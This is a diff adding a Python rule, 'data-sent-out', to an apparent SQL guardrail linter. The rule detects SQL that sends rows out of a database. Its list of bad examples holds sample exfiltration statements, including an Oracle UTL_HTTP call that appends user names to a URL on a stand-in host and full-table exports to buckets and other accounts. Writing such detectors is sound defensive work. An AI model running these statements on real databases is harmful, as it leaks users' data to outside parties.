@@ -1,0 +1,94 @@
+"""The rule `data-sent-out`."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from guardrail.context import Context
+from guardrail.effects import NetworkUse, ObjectKind, PrivilegeChange, SchemaChange, Verb
+from guardrail.example import sql
+from guardrail.model import Category, Finding, Level
+from guardrail.rule import Rule
+from guardrail_rules.circumstances import named, weighed
+
+
+class DataSentOut(Rule):
+    """SQL sends rows out of the database: to a bucket, a URL, another account.
+
+    ## Why it matters
+
+    Once they are there, other rules decide who reads them, and nothing takes them back: the
+    bucket's policy, the receiver's account, a log of requests.
+
+    ## Do this instead
+
+    Name only the columns and rows that have to leave, send them to a place whose access is kept in
+    the same repository, and let the export be a job with a role of its own rather than a migration.
+    """
+
+    name = "data-sent-out"
+    category = Category.EXPOSURE
+    level = Level.WARNING
+    judges = (NetworkUse, SchemaChange, PrivilegeChange)
+
+    bad = (
+        sql(
+            "UNLOAD ('SELECT * FROM users') TO 's3://bucket/users' IAM_ROLE default",
+            dialect="redshift",
+        ),
+        sql("COPY INTO 's3://bucket/users/' FROM users", dialect="snowflake"),
+        sql("ALTER SHARE partner ADD ACCOUNTS = acme.other", dialect="snowflake"),
+        sql(
+            "EXPORT DATA OPTIONS (uri = 'gs://bucket/u-*.csv', format = 'CSV') "
+            "AS SELECT * FROM shop.users",
+            dialect="bigquery",
+        ),
+        sql(
+            "INSERT INTO FUNCTION s3('https://b.s3.amazonaws.com/x.csv', 'CSV') "
+            "SELECT * FROM users",
+            dialect="clickhouse",
+        ),
+        sql("SELECT net.http_post('https://hooks.example.com', body := '{}'::jsonb)"),
+        sql("SELECT UTL_HTTP.REQUEST('http://x.io/?' || name) FROM users", dialect="oracle"),
+        sql("CREATE PUBLICATION everything FOR ALL TABLES"),
+    )
+    good = (
+        sql("COPY users FROM 's3://bucket/users' IAM_ROLE default", dialect="redshift"),
+        sql("COPY INTO users FROM 's3://bucket/users/'", dialect="snowflake"),
+        sql(
+            "INSERT INTO users SELECT * FROM s3('https://b.s3.amazonaws.com/x.csv', 'CSV')",
+            dialect="clickhouse",
+        ),
+        sql("CREATE PUBLICATION orders FOR TABLE orders"),
+    )
+
+    def judge(
+        self, effect: NetworkUse | SchemaChange | PrivilegeChange, context: Context
+    ) -> Iterator[Finding]:
+        """Rows that leave, or a standing way for them to."""
+        message = ""
+        if isinstance(effect, NetworkUse):
+            if effect.language == "sql" and effect.sends:
+                where = named(effect.host, "a place") if effect.host else "another place"
+                message = f"{', '.join(effect.sends)} goes to {where}"
+        elif isinstance(effect, PrivilegeChange):
+            shared = [name for name in effect.whom if name.startswith("share ")]
+            if effect.verb is Verb.GRANT and shared:
+                message = f"{effect.on or 'data'} goes into the {shared[0]}, to other accounts"
+        elif effect.kind is ObjectKind.OTHER:
+            message = _standing(effect)
+        if message:
+            yield from weighed(self, effect, context, message)
+
+
+def _standing(change: SchemaChange) -> str:
+    """What a share or a publication opens, "" where it opens nothing."""
+    options = change.options
+    if change.verb is Verb.CREATE and "for all tables" in options:
+        return f"the publication {change.name} sends every table there is and will be"
+    if options[:1] != ("share",):
+        return ""
+    if change.verb is Verb.CREATE:
+        return f"the share {change.name} opens data to other accounts"
+    adds = any(word in option for option in options for word in ("add account", "set account"))
+    return f"the share {change.name} is opened to another account" if adds else ""
